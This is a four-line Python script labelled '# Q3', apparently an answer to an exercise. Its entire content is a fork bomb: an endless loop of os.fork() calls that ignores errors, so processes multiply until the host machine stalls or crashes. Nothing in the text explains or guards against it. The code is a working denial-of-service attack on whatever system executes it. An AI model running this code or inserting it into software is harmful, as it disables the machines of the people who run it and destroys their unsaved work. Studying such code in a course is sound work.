# Q3
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
